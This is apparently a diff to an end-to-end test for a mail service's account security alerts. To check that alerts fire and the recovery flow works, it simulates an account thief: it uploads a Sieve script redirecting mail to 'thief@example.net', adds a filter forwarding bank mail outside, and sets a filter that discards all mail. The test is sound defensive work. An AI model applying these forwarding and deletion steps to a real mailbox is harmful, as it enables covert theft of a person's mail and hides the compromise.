@@ -21,6 +21,8 @@ const PAGES = {
   'remove-app': '/account/second-factors/remove',
   'app-passwords': '/account/app-passwords',
   'new-app-password': '/account/app-passwords/new',
+  alerts: '/account/alerts',
+  'take-back': '/account/alerts/secure',
 } as const
 
 let house: House
@@ -29,7 +31,7 @@ let browser: Browser
 let anna: Visitor
 
 before(async () => {
-  house = await House.open('account', ['anna', 'bo'])
+  house = await House.open('account', ['anna', 'bo', 'cecilie'], {}, '[alerts]\nquiet-days = 0\n')
   browser = await startBrowser()
   anna = await Visitor.open(browser, house.origin, { width: 1280, theme: 'light' })
   await signIn(anna, PASSWORD)
@@ -188,6 +190,85 @@ test('that another password is advised stands over the mail too, until it was ch
   assert.deepEqual(bo.complaints, [])
 })
 
+test('whatever a thief does first is told of, through every door: in the inbox past the filter, and on the page until it is answered', async () => {
+  await using cecilie = await Visitor.open(browser, house.origin, { width: 1280, theme: 'light' })
+  const { page } = cecilie
+  await cecilie.signIn('cecilie@posthus.test')
+  const told = async () => {
+    await page.goto('/account/alerts')
+    return (await page.locator('.rows .name').allTextContents()).map((one) => one.replace(/\s+/g, ' '))
+  }
+  const wait = (sign: RegExp) => becomes(async () => (await told()).some((one) => sign.test(one)), true)
+  await wait(/new device or program has logged in: [A-Za-z, ]+, HTTPS, [0-9.:]+/)
+  assert.match(await imapLogin(PASSWORD, 'cecilie@posthus.test'), /OK/)
+  await wait(/logged in: IMAPS, [0-9.:]+/)
+  // Hides what we write, as a thief would; and sends on.
+  await putScript('cecilie@posthus.test', 'redirect "thief@example.net";')
+  await wait(/sent on, or announced, to thief@example\.net/)
+  await page.goto('/mail/#/settings/filters')
+  await page.getByRole('button', { name: 'New filter' }).click()
+  const editor = page.locator('.filter-editor')
+  await editor.getByLabel('Name', { exact: true }).fill('Banks')
+  await editor.getByRole('group', { name: 'Condition 1' }).getByLabel('Text').fill('bank')
+  const action = editor.getByRole('group', { name: 'Action 1' })
+  await action.getByLabel('What').selectOption('Forward, and keep it here')
+  await action.getByRole('textbox').fill('modern@example.net')
+  await editor.getByRole('button', { name: 'Save' }).click()
+  await page.locator('.rules .rule', { hasText: 'Banks' }).waitFor()
+  await wait(/modern@example\.net/)
+  await page.goto('/account/webmail')
+  await page.locator('main form button').first().click()
+  await page.waitForURL(({ pathname }) => pathname.startsWith('/classic/'))
+  await page.goto('/classic/filters/text')
+  await page.locator('textarea').fill('discard;')
+  await page.locator('main form button').first().click()
+  await wait(/filter now deletes mail/)
+  await cecilie.assertSightly('account told', 320)
+  await becomes(async () => /Was that you\?/.test(await inboxOf('cecilie@posthus.test')), true)
+  const before = (await told()).length
+  await page.getByRole('button', { name: 'That was me' }).first().click()
+  await page.locator('[role=status]').waitFor()
+  assert.equal((await told()).length, before - 1)
+  await page.getByRole('button', { name: 'That was not me' }).first().click()
+  await page.locator('h1', { hasText: 'Take your account back' }).waitFor()
+  await page.getByRole('button', { name: 'Sign everything else out' }).click()
+  await page.locator('[role=status]', { hasText: 'Everything else is signed out' }).waitFor()
+  await page.goto('/account')
+  assert.match((await page.locator('main .said.wrong').textContent()) ?? '', /have changed in your account/)
+})
+
+/** Puts a script there over ManageSieve (RFC 5804). */
+async function putScript(who: string, script: string): Promise<void> {
+  const sieve = await PeerStream.connect(house.posthus.ports.managesieve)
+  const untilOk = async () => {
+    for (let line = await sieve.line(); !line.startsWith('OK'); line = await sieve.line())
+      assert.doesNotMatch(line, /^NO/)
+  }
+  await untilOk()
+  sieve.write('STARTTLS\r\n')
+  await untilOk()
+  await sieve.secure()
+  await untilOk()
+  sieve.write(`AUTHENTICATE "PLAIN" "${Buffer.from(`\0${who}\0${PASSWORD}`).toString('base64')}"\r\n`)
+  await untilOk()
+  sieve.write(`PUTSCRIPT "old" {${script.length}+}\r\n${script}\r\n`)
+  await untilOk()
+  sieve.destroy()
+}
+
+/** The subjects in somebody's inbox. */
+async function inboxOf(who: string): Promise<string> {
+  const stream = await PeerStream.connect(house.posthus.ports.imaps)
+  await stream.secure()
+  await stream.line()
+  stream.write(`a LOGIN ${who} "${PASSWORD}"\r\nb EXAMINE INBOX\r\nc FETCH 1:* BODY.PEEK[HEADER.FIELDS (SUBJECT)]\r\n`)
+  const lines: string[] = []
+  do lines.push(await stream.line())
+  while (!lines.at(-1)?.startsWith('c '))
+  stream.destroy()
+  return lines.join('\n')
+}
+
 async function signIn({ page }: Visitor, password: string): Promise<void> {
   await page.goto('/sign-in?next=/account')
   await page.fill('[name=address]', 'anna@posthus.test')
@@ -196,11 +277,11 @@ async function signIn({ page }: Visitor, password: string): Promise<void> {
 }
 
 /** What the server says to LOGIN. */
-async function imapLogin(password: string): Promise<string> {
+async function imapLogin(password: string, who = 'anna@posthus.test'): Promise<string> {
   const stream = await PeerStream.connect(house.posthus.ports.imaps)
   await stream.secure()
   await stream.line()
-  stream.write(`a LOGIN anna@posthus.test "${password}"\r\n`)
+  stream.write(`a LOGIN ${who} "${password}"\r\n`)
   const answer = await stream.line()
   stream.destroy()
   return answer
